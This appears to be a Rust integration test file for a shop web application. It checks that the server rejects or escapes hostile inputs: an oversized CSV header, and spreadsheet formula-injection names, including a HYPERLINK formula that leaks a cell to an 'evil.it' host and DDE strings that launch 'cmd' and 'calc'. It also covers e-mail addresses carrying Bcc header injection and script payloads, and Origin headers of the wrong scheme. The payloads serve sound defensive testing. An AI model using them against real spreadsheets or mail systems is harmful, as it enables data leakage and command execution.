//! Hostile inputs: a CSV header built to burn CPU, spreadsheet formulas in the CSV files
//! the server writes, malformed e-mail addresses, an Origin of the wrong scheme and names
//! made of invisible characters.

use reqwest::StatusCode;
use serde_json::Value;

use crate::helpers::spawn_app;
use crate::import::{analyze, process};

/// A 16 KB CSV whose header is 4,000 columns named "a": numbering the repeated names
/// took 26 s of CPU in analyze before CSV columns were capped like XLSX ones.
fn four_thousand_columns() -> Vec<u8> {
    let header = vec!["a"; 4000].join(";");
    let row = vec!["1"; 4000].join(";");
    format!("{header}\n{row}\n").into_bytes()
}

#[tokio::test]
async fn a_csv_of_four_thousand_columns_is_refused_with_the_column_limit() {
    let app = spawn_app().await;
    let shop = app.shop("colonne@edilizia.it").await;

    let (status, reply) = analyze(&shop, four_thousand_columns(), "listino.csv").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    assert_eq!(reply["success"], false);
    assert_eq!(reply["code"], "too_many_columns");
    assert_eq!(
        reply["error"],
        "Il file contiene troppe colonne: il massimo è 256"
    );

    let mapping: Value = serde_json::json!({"name": "a"});
    let (status, reply) = process(
        &shop,
        four_thousand_columns(),
        "listino.csv",
        &mapping,
        false,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    assert_eq!(reply["code"], "too_many_columns");

    // The shop can go on: a normal file after it is read.
    let (status, reply) = analyze(
        &shop,
        b"Nome;Prezzo\nCemento;6,50\n".to_vec(),
        "listino.csv",
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{reply}");
}

/// A CSV download read back with the `csv` crate: its rows, the BOM removed.
fn csv_rows(body: &str) -> Vec<Vec<String>> {
    let body = body.strip_prefix('\u{feff}').unwrap_or(body);
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn starts_a_formula(cell: &str) -> bool {
    domain::spreadsheet::spreadsheet_text(cell) != cell
}

#[tokio::test]
async fn the_import_error_report_and_the_template_never_start_a_formula() {
    let app = spawn_app().await;
    let shop = app.shop("formule@edilizia.it").await;
    // Every row fails on its price, so every name lands in the report.
    let names = [
        "-20% sconto",
        "=HYPERLINK(\"http://evil.it/?\"&A1;\"Clicca\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let mut csv = String::from("Nome;Prezzo\n");
    for name in names {
        csv.push_str(&format!("\"{}\";gratis\n", name.replace('"', "\"\"")));
    }
    let (status, analysis) = analyze(&shop, csv.clone().into_bytes(), "listino.csv").await;
    assert_eq!(status, StatusCode::OK, "{analysis}");
    let (status, processed) = process(
        &shop,
        csv.into_bytes(),
        "listino.csv",
        &analysis["mapping"],
        false,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{processed}");
    assert_eq!(processed["statistics"]["invalid"], names.len());

    let id = processed["processId"].as_str().unwrap();
    let reply = shop.get(&format!("/api/file/error-report/{id}")).await;
    assert_eq!(reply.status(), StatusCode::OK);
    let rows = csv_rows(&reply.text().await.unwrap());
    assert_eq!(rows[0], ["Riga", "Prodotto", "Errori"]);
    let products: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
    let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    assert_eq!(products, expected);
    for cell in rows.iter().flatten() {
        assert!(!starts_a_formula(cell), "report cell {cell:?}");
    }

    let reply = app.get("/api/file/template").await;
    assert_eq!(reply.status(), StatusCode::OK);
    let rows = csv_rows(&reply.text().await.unwrap());
    assert!(rows.len() >= 3 && rows[0][0] == "name");
    for cell in rows.iter().flatten() {
        assert!(!starts_a_formula(cell), "template cell {cell:?}");
    }
}

/// Addresses that must never be taken for one: a list (the mail would go to both), markup,
/// header injection, display names, quotes, spaces and invisible characters.
const MALFORMED_EMAILS: [&str; 14] = [
    "vittima@gmail.com,attaccante@evil.it",
    "vittima@gmail.com;attaccante@evil.it",
    "<script>@x.it",
    "bcc:x@evil.it",
    "Mario <mario@x.it>",
    "\"mario rossi\"@x.it",
    "mario\"@x.it",
    "mario rossi@x.it",
    "mario@x.it\r\nBcc: y@evil.it",
    "mario@x.it\nbcc:y@evil.it",
    "mario@x.it (commento)",
    "mario@[127.0.0.1]",
    "mario\u{200B}@x.it",
    "javascript:alert(1)//@x.it",
];

#[tokio::test]
async fn malformed_email_addresses_are_refused_everywhere() {
    use crate::helpers::registration;
    use domain::messages;
    use serde_json::json;

    let app = spawn_app().await;
    for (i, email) in MALFORMED_EMAILS.iter().enumerate() {
        // Registration: the address would be the public page's mailto.
        let reply = app
            .post("/api/stores", registration(email, &format!("Negozio {i}")))
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["email"],
            messages::EMAIL_INVALID,
            "{email:?}"
        );

        let reply = app
            .post(
                "/api/auth/login",
                json!({"email": email, "password": crate::helpers::PASSWORD}),
            )
            .await;
        let body = crate::helpers::error_of(reply, 401).await;
        assert_eq!(body["code"], "invalid_credentials", "{email:?}");

        for path in [
            "/api/auth/resend-verification",
            "/api/auth/request-password-reset",
        ] {
            let reply = app.post(path, json!({ "email": email })).await;
            let body = crate::helpers::error_of(reply, 422).await;
            assert_eq!(
                body["fields"]["email"],
                messages::EMAIL_INVALID,
                "{path} {email:?}"
            );
        }

        let reply = app
            .post(
                "/api/leads",
                json!({"workEmail": email, "businessName": "Edilizia Rossi",
                    "postal_code": "00118", "city": "Roma"}),
            )
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["workEmail"],
            messages::EMAIL_INVALID,
            "{email:?}"
        );
    }
    // Nothing was stored and no e-mail left.
    let outbox = std::fs::read_dir(app.data_dir.join("outbox"))
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(outbox, 0);

    // A plain address still works, spaces and capitals trimmed and folded.
    let reply = app
        .post(
            "/api/stores",
            registration(" Mario.Rossi+Vetrina@Edilizia-Rossi.IT ", "Edilizia Rossi"),
        )
        .await;
    assert_eq!(reply.status(), StatusCode::CREATED);
    let reply: Value = reply.json().await.unwrap();
    assert_eq!(reply["email"], "mario.rossi+vetrina@edilizia-rossi.it");
}

#[tokio::test]
async fn with_an_https_public_url_an_http_origin_is_foreign() {
    use serde_json::json;
    use vetrina::config::parse_public_url;

    let app = crate::helpers::spawn_app_with(|c| {
        c.public_url = parse_public_url("https://vetrina.example.it").unwrap();
    })
    .await;
    let host = app.url.trim_start_matches("http://").to_owned();
    let login = |origin: String| {
        let url = format!("{}/api/auth/login", app.url);
        async move {
            reqwest::Client::new()
                .post(url)
                .header("origin", origin)
                .json(&json!({"email": "nessuno@edilizia.it", "password": "Sbagliata1!"}))
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    // Foreign: the scheme differs (on the public host or on the Host the request named),
    // or the port, or the host.
    for origin in [
        "http://vetrina.example.it".to_owned(),
        "http://vetrina.example.it:443".to_owned(),
        format!("http://{host}"),
        "https://vetrina.example.it:8443".to_owned(),
        "https://evil.example.it".to_owned(),
        "null".to_owned(),
    ] {
        assert_eq!(
            login(origin.clone()).await,
            StatusCode::FORBIDDEN,
            "{origin}"
        );
    }
    // Same origin: the login itself answers (wrong credentials).
    for origin in [
        "https://vetrina.example.it".to_owned(),
        "https://vetrina.example.it:443".to_owned(),
        format!("https://{host}"),
    ] {
        assert_eq!(
            login(origin.clone()).await,
            StatusCode::UNAUTHORIZED,
            "{origin}"
        );
    }
}

#[tokio::test]
async fn names_made_of_invisible_characters_are_missing_names() {
    use crate::helpers::registration;
    use domain::messages;
    use serde_json::json;

    let invisible = [
        "\u{200B}\u{200B}\u{200B}",
        "\u{200C}\u{200D}",
        "\u{2060}\u{FEFF}",
        "\u{00A0}\u{3000}\u{202E}",
        "\u{3164}\u{3164}",
    ];
    let app = spawn_app().await;
    for (i, name) in invisible.iter().enumerate() {
        let reply = app
            .post(
                "/api/stores",
                registration(&format!("invisibile{i}@edilizia.it"), name),
            )
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["name"],
            messages::STORE_NAME_SHORT,
            "{name:?}"
        );
    }
    let shop = app.shop("visibile@edilizia.it").await;
    let product = shop.add_product("Cemento Portland").await;
    for name in invisible {
        let reply = shop
            .put(&format!("/api/stores/{}", shop.id), json!({ "name": name }))
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["name"],
            messages::STORE_NAME_SHORT,
            "{name:?}"
        );

        let reply = shop
            .post("/api/products", json!({ "name": name, "price": 1 }))
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["name"],
            messages::PRODUCT_NAME_REQUIRED,
            "{name:?}"
        );

        let reply = shop
            .put(
                &format!("/api/products/{}", product["id"]),
                json!({ "name": name }),
            )
            .await;
        let body = crate::helpers::error_of(reply, 422).await;
        assert_eq!(
            body["fields"]["name"],
            messages::PRODUCT_NAME_REQUIRED,
            "{name:?}"
        );
    }
    // An imported row named only by invisible characters is an error row.
    let csv = "Nome;Prezzo\n\u{200B}\u{2060};3\nCemento;6,50\n"
        .as_bytes()
        .to_vec();
    let (status, analysis) = analyze(&shop, csv.clone(), "listino.csv").await;
    assert_eq!(status, StatusCode::OK, "{analysis}");
    let (status, processed) = process(&shop, csv, "listino.csv", &analysis["mapping"], false).await;
    assert_eq!(status, StatusCode::OK, "{processed}");
    assert_eq!(processed["statistics"]["valid"], 1);
    assert_eq!(
        processed["errors"][0]["errors"][0],
        "Il nome del prodotto è obbligatorio"
    );
}
